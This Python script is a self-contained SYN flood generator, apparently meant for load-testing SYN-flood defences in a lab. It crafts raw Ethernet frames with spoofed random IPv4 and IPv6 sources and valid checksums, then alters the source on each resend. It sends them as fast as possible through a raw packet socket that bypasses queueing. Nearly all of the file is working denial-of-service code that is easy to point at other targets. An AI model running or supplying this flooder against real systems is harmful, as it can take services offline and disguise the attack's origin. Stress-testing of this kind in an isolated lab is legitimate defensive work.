#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""A SYN flood from random sources, as fast as one thread can send, by the client's link of a lab.

usage: torture_flood.py SEED PORT VIP..     until the end of standard input; then a line of JSON:
                                            {"sent", "seconds", "cpu_s"}
"""
import errno
import json
import random
import select
import socket
import struct
import sys
import time

OWN_MAC, ROUTER_MAC = "02:00:00:00:04:02", "02:00:00:00:04:01"
FRAMES = 8192          # each goes out again and again, from another source each time
PACKET_QDISC_BYPASS = 20
SOL_PACKET = 263


def ones_sum(raw):
    total = sum(struct.unpack(f"!{len(raw) // 2}H", raw))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return total


def source(rng, family):
    """Nobody's: the router has no way to it."""
    if family == 6:
        return bytes.fromhex("20010db80bad") + rng.randbytes(10)
    return bytes([rng.choice([n for n in range(11, 190) if n != 127])]) + rng.randbytes(3)


def frame(rng, vip, port):
    """(bytes, where the source's last word is, the sequence number's, the IPv4 identification's)."""
    family = 6 if ":" in vip else 4
    to = socket.inet_pton(socket.AF_INET6 if family == 6 else socket.AF_INET, vip)
    by = source(rng, family)
    tcp = struct.pack("!HHIIBBHHHBBH", rng.randrange(1024, 65536), port, rng.getrandbits(32), 0, 6 << 4,
                      2, 64240, 0, 0, 2, 4, 1460)
    pseudo = by + to + struct.pack("!HH", 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", 0xffff & ~ones_sum(pseudo + tcp)) + tcp[18:]
    macs = bytes.fromhex((ROUTER_MAC + OWN_MAC).replace(":", ""))
    if family == 6:
        out = macs + b"\x86\xdd" + struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + by + to + tcp
        return bytearray(out), 14 + 22, 54 + 6, None
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), rng.getrandbits(16), 0, 64, 6, 0) + by + to
    ip = ip[:10] + struct.pack("!H", 0xffff & ~ones_sum(ip)) + ip[12:]
    return bytearray(macs + b"\x08\0" + ip + tcp), 14 + 14, 34 + 6, 14 + 4


def moved(one, by):
    """Another source: what is added to it is taken from words that nobody looks at, so that the
    checksums stay right."""
    raw, at, number, identification = one
    word = struct.Struct("!H")
    word.pack_into(raw, at, (word.unpack_from(raw, at)[0] + by) % 0xffff)
    for place in (number, identification):
        if place is not None:
            word.pack_into(raw, place, (word.unpack_from(raw, place)[0] - by) % 0xffff)
    return raw


def main():
    rng = random.Random(f"flood {sys.argv[1]}")
    port, vips = int(sys.argv[2]), sys.argv[3:]
    frames = [frame(rng, vips[i % len(vips)], port) for i in range(FRAMES)]
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sock.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    sock.bind(("eth0", 0))
    sent, begun = 0, time.monotonic()
    while not select.select([sys.stdin], [], [], 0)[0]:
        by = rng.randrange(1, 0xffff)
        for one in frames:
            try:
                sock.send(moved(one, by))
                sent += 1
            except OSError as error:
                if error.errno not in (errno.ENOBUFS, errno.EAGAIN):
                    raise
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - begun, 1),
                      "cpu_s": round(time.process_time(), 1)}), flush=True)


if __name__ == "__main__":
    main()
